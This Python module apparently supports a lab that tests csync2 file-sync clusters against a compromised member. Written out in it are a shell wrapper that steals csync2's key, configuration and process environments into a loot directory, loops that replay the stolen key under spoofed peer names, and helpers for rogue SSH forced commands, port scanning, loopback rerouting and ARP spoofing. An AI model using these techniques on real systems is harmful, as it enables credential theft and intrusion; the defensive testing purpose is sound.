# SPDX-License-Identifier: ISC
"""What root on one member of a group tries: programs in Perl, which every
Debian has, put on the hosts that are the attacker's."""

import contextlib
import os
import pathlib
import subprocess
import threading

from lab import proc
from lab.link import enter_net

HERE = pathlib.Path(__file__).parent
# Of admin's key, on a host that lies: whatever is asked, this answers.
FORCED = 'command="exec perl /root/liar.pl %s" '
AUTHORIZED = "/root/.ssh/authorized_keys"


def put(host, *programs):
    for name in programs:
        host.write(f"/root/{name}", (HERE / name).read_bytes())


def lie(host, mode):
    """From now on every ssh login to the host gets liar.pl MODE."""
    put(host, "liar.pl")
    honest(host)
    host.write(AUTHORIZED, FORCED % mode + host.read(AUTHORIZED), 0o600)


def honest(host):
    text = host.read(AUTHORIZED)
    host.write(AUTHORIZED, text[text.index("ssh-ed25519"):], 0o600)


def scan(host, *targets, timeout=60):
    """{(target, port)}: what answers, of all ports of all targets."""
    put(host, "scan.pl")
    out = host.run(["perl", "/root/scan.pl", *targets], timeout=timeout)
    return {(a, int(p)) for a, p in map(str.split, out.stdout.splitlines())}


class Watch:
    """What a run costs while it lasts: memory_kib, the peak of a process's
    own memory; disk_kib, what it has taken of a host's file systems."""

    def __init__(self, host, pid, paths=("/tmp", "/run", "/")):
        self.pid, self.memory_kib, self.disk_kib = pid, 0, 0
        self._paths = [host.path(p) for p in paths]
        self._before = list(map(self._free_kib, self._paths))
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    @staticmethod
    def _free_kib(path):
        st = os.statvfs(path)
        return st.f_bavail * st.f_frsize >> 10

    def _sample(self):
        while not self._over.wait(0.02):
            for line in proc.read(f"/proc/{self.pid}/status").splitlines():
                if line.startswith(b"VmHWM:"):
                    self.memory_kib = int(line.split()[1])
            for path, before in zip(self._paths, self._before):
                self.disk_kib = max(self.disk_kib,
                                    before - self._free_kib(path))

    def stop(self):
        self._over.set()
        self._thread.join()
        assert self.memory_kib > 0, "the process was never seen"
        return self


# In front of csync2 on the attacker's host: takes its key, its configuration
# and its environment away, and lets it run.
TAKES = """#!/bin/sh
k=$(cat "$CSYNC2_SYSTEM_DIR/k0")
mkdir -p /root/loot
cp "$CSYNC2_SYSTEM_DIR/csync2.cfg" /root/loot/
env >/root/loot/env
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >/root/loot/proc 2>/dev/null
printf '%s\\n' "$k" >/root/loot/k0
printf '%s\\n' "$k" >"$CSYNC2_SYSTEM_DIR/k0" </dev/null 2>/dev/null &
exec /usr/sbin/csync2 "$@"
"""

# csync2's own commands with a stolen key: the member's configuration with a
# file in place of the FIFO, under each name, and the one that a push made.
COMMANDS = r"""
cd /root/loot
for name in h2 admin h1 h3 receiver 127.0.0.1; do
	mkdir -p own.$name
	sed "s,key [^;]*;,key /root/loot/k0;," /etc/csync2_priv.cfg \
		>own.$name/csync2_priv.cfg
	for how in -x -xr -u -T -TT -TI -TUI -TR; do
		for peer in $PEERS; do
			CSYNC2_SYSTEM_DIR=/root/loot/own.$name timeout -k 1 4 csync2 \
				-C priv -N $name -D /root/loot/own.$name \
				-P $peer $how /srv/priv </dev/null \
				>"own.$name/out$how.$peer" 2>&1 &
		done
	done
done
for peer in $PEERS; do
	[ -e csync2.cfg ] || break
	sed "s/127\.0\.0\.1/$peer/g" csync2.cfg >made.cfg
	for port in 30865 $PORTS; do
		mkdir -p made
		sed "s,/@POSTERN@,/root/loot," made.cfg >made/csync2.cfg
		CSYNC2_SYSTEM_DIR=/root/loot/made timeout -k 1 3 csync2 -N receiver \
			-D /root/loot/made -p $port -P $peer -xr /srv/priv \
			</dev/null >>made/out 2>&1 &
	done
done
wait
cat own.*/out* made/out 2>/dev/null || :
"""


def speak(host, target, config, name, key, file="/srv/priv/evil", **env):
    """speak.pl on the host, in the background."""
    return host.popen(["perl", "/root/speak.pl", target.ip, "30865", config,
                       name, key, file], text=True, env=env,
                      stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def _net(host, line):
    """A shell line in the host's network, with a /proc/sys that is not
    read-only."""
    subprocess.run([*enter_net(host.link.ns), "unshare", "-m", "sh", "-c",
                    "set -e; mount -t proc proc /proc\n" + line], check=True)


_MARTIANS = {"all/route_localnet": 1, "all/rp_filter": 0,
             "eth0/rp_filter": 0}


@contextlib.contextmanager
def _settings(host, settings):
    names = [f"/proc/sys/net/ipv4/conf/{n}" for n in settings]
    old = [host.read(n).strip() for n in names]
    _net(host, "".join(f"echo {v} >{n}\n" for n, v in
                       zip(names, settings.values())))
    try:
        yield
    finally:
        _net(host, "".join(f"echo {v} >{n}\n" for n, v in zip(names, old)))


@contextlib.contextmanager
def loopback_by_wire(host, target):
    """On the host, 127.0.0.1 is reached through the target's address."""
    with _settings(host, _MARTIANS):
        _net(host, "ip route del local 127.0.0.1 dev lo table local\n"
             "ip route del local 127.0.0.0/8 dev lo table local\n"
             f"ip route add 127.0.0.0/8 via {target.ip} src {host.ip}")
        try:
            yield
        finally:
            _net(host, f"ip route del 127.0.0.0/8 via {target.ip}\n"
                 "ip route add local 127.0.0.1 dev lo table local\n"
                 "ip route add local 127.0.0.0/8 dev lo table local")


def takes_martians(host):
    """Its kernel takes packets for 127.0.0.1 from the network."""
    return _settings(host, _MARTIANS)


@contextlib.contextmanager
def neighbour(host, of, by):
    """For the host, the address of one is the machine of another."""
    def replace(mac):
        _net(host, f"ip neigh replace {of.ip} lladdr {mac} dev eth0 "
             "nud permanent")
    number = host.lab.number
    replace(host.lab.mac(number(by.name)))
    try:
        yield
    finally:
        replace(host.lab.mac(number(of.name)))
